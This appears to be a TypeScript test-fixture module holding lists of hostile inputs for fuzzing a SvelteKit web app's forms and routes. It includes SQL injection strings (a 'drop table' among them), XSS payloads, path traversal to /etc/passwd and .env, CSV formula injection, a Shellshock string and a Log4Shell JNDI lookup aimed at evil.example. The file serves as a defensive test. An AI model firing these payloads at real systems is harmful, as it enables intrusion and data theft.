import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

const long = (text: string, length: number): string =>
	text.repeat(Math.ceil(length / text.length)).slice(0, length);

/** Words that mean something to a database; each would show if it were ever read as SQL. */
export const sql = [
	`'`,
	`"`,
	`''`,
	`\\'`,
	`' or '1'='1`,
	`' or 1=1 --`,
	`'; drop table platform.person; --`,
	`1; select pg_sleep(5)`,
	`' || pg_sleep(5) || '`,
	`') or exists(select 1 from pg_shadow) --`,
	`$1`,
	`$$; select 1; $$`,
	`E'\\x27'`,
	`%`,
	`_%_%_%_%_%_%`,
	`a & b | !c`,
	`:* & (`,
	`'a':*`,
	`foo <-> bar`,
	`{1,2,3}`,
	`[1,2)`,
	`{"a": 1}`,
	`00000000-0000-0000-0000-000000000000`,
	`00000000-0000-0000-0000-00000000000g`
];

/** Markup that would run, close something, or read what it must not. */
export const markup = [
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`'><svg/onload=alert(1)>`,
	`</textarea><script>alert(1)</script>`,
	`</title><script>alert(1)</script>`,
	`--><script>alert(1)</script><!--`,
	`<a href="javascript:alert(1)">x</a>`,
	`javascript:alert(1)`,
	`data:text/html,<script>alert(1)</script>`,
	`<style>@import 'https://evil.example/x.css'</style>`,
	`<iframe src="https://evil.example">`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	`{{constructor.constructor('alert(1)')()}}`,
	`\${alert(1)}`,
	`{@html '<b>'}`,
	`<!--[-->`,
	`<!--]-->`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`<ScRiPt >alert(1)</sCrIpT >`,
	`\u003cscript\u003ealert(1)\u003c/script\u003e`,
	`＜script＞alert(1)＜/script＞`
];

/** Characters that are hard to hold. */
export const characters = [
	`\u0000`,
	`ennen\u0000jälkeen`,
	`\u0001\u0002\u001b[31mpunainen\u0007`,
	`\ud800`,
	`\udc00\ud800`,
	`a\ud83d`,
	`\ufffe\uffff`,
	`\u202etxt.exe\u202c`,
	`\u2066piilossa\u2069`,
	`\u200b\u200d\ufeff`,
	`e\u0301\u0301\u0301`,
	`Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f`,
	`👩‍👩‍👧‍👦🏳️‍🌈`,
	`İıſßŒ`,
	`ÄÖÅ äöå šžčđŋŧ`,
	`𝕳𝖊𝖎`,
	`中文 العربية עברית`,
	`\r\nSet-Cookie: a=b`,
	`rivi\r\nrivi\rrivi\nrivi`,
	`\t\v\f \u00a0\u2028\u2029`,
	`   `,
	`\n\n\nalussa`,
	`%00 %0d%0a %u0041 %c0%ae`,
	`&#0; &#xD800; &#x110000;`
];

/** Numbers and shapes where others were expected. */
export const shapes = [
	`-1`,
	`0`,
	`NaN`,
	`Infinity`,
	`1e309`,
	`9999999999999999999999`,
	`0x10`,
	`1.5`,
	`٣`,
	`null`,
	`undefined`,
	`[object Object]`,
	`true`,
	`2026-02-30`,
	`0000-00-00`,
	`99999-01-01`,
	`2026-13-45`,
	`__proto__`,
	`constructor`,
	`toString`,
	`hasOwnProperty`,
	`../../../../etc/passwd`,
	`..\\..\\windows\\win.ini`,
	`//evil.example/x`,
	`https://evil.example/`,
	`/\\evil.example`,
	`=HYPERLINK("https://evil.example")`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`() { :; }; echo x`,
	`\${jndi:ldap://evil.example/a}`
];

/** Lengths at which something may give way. */
export const lengths = [
	long('a', 255),
	long('ä', 2001),
	long('sana ', 5001),
	long('x', 20_001),
	long('pitkä teksti ', 60_000),
	long('<', 30_000),
	long('((((((((((a', 3000),
	long('\ud83d\ude00', 4000)
];

/** Some 100 kB, as much as a public form takes when every letter is one byte. */
export const huge = long('Kerron pitkästi. ', 100_000).replaceAll('ä', 'a');

export const all = [...sql, ...markup, ...characters, ...shapes];
/** One of each kind, where there are many places to try. */
export const few = [
	`' or 1=1 --`,
	`"><img src=x onerror=alert(1)>`,
	`\u0000`,
	`\ud800`,
	`\u202e\u2066x`,
	`-1`,
	`99999999999999999999`,
	`__proto__`,
	`../../etc/passwd`,
	`%00%ff`,
	long('z', 3000),
	`\r\n\r\n<b>`
];

/** Addresses that are no addresses. */
export const paths = [
	'//',
	'///',
	'//evil.example',
	'//evil.example/%2e%2e',
	'/\\evil.example',
	'/.',
	'/..',
	'/../../etc/passwd',
	'/%2e%2e/%2e%2e/etc/passwd',
	'/..%2f..%2fetc%2fpasswd',
	'/%5c..%5c',
	'/%',
	'/%zz',
	'/%c0%af',
	'/%ff%fe',
	'/%ed%a0%80',
	'/%00',
	'/kerro%00',
	'/kerro/%00',
	'/kerro/%0d%0aSet-Cookie:%20a=b',
	'/kerro/\u00e4',
	'/kerro//',
	'/kerro/.',
	'/kerro;x=1',
	'/kerro/%2f',
	'/%74yo/saapuneet',
	'/tyo%2fsaapuneet',
	'/TYO',
	'/sv/sv',
	'/sv//tyo',
	'/selko/%',
	'/en/%c3',
	'/sv%2ftyo',
	'/__data.json',
	'/kerro/__data.json',
	'/tyo/__data.json?x-sveltekit-invalidated=1',
	'/_app/',
	'/_app/version.json',
	'/_app/immutable/',
	'/_app/immutable/%2e%2e/%2e%2e/package.json',
	'/_app/env.js',
	'/_app/remote/x/y',
	'/_app/../server/index.js',
	'/favicon.svg/',
	'/.env',
	'/.git/config',
	'/package.json',
	'/server.js',
	'/node_modules/',
	'/__route.js',
	'/kerro/__route.js',
	'/kerro.html',
	'/kerro.json',
	'/p/',
	'/p/%20',
	'/p/AAAAAA',
	'/p/abc23é',
	'/lupaukset/0',
	'/lupaukset/00000000-0000-0000-0000-000000000000',
	'/lupaukset/syote/',
	'/lupaukset/%2e%2e',
	'/tyo/saapuneet/1',
	'/tyo/ihmiset/%27',
	'/tyo/ihmiset/1/paata',
	'/kirjaudu/kutsu/%00',
	'/kirjaudu/kutsu/' + 'a'.repeat(4000),
	'/' + 'a/'.repeat(2000),
	'/' + '%41'.repeat(2000),
	'/?' + 'a=1&'.repeat(1500),
	'/?__proto__=1&constructor[prototype][x]=1',
	'/?%',
	'/?%=%',
	'/kerro?q',
	'/kerro?q=1&q=2&q[]=3&q[a]=4',
	'/?x-sveltekit-invalidated=1',
	'/?/',
	'/?/koodi',
	'/kerro?/',
	'/kerro?/default',
	'/kerro?/__proto__',
	'/kerro?/constructor',
	'/kerro?/toString'
];

/** Naughty strings of others, where the samples lie beside the project; never part of it. */
export function samples(): string[] {
	const folder = process.env.KUULTU_SAMPLES ?? join(import.meta.dirname, '../../../shared/samples');
	const file = join(folder, 'hostile-text/blns.json');
	return existsSync(file) ? (JSON.parse(readFileSync(file, 'utf8')) as string[]) : [];
}
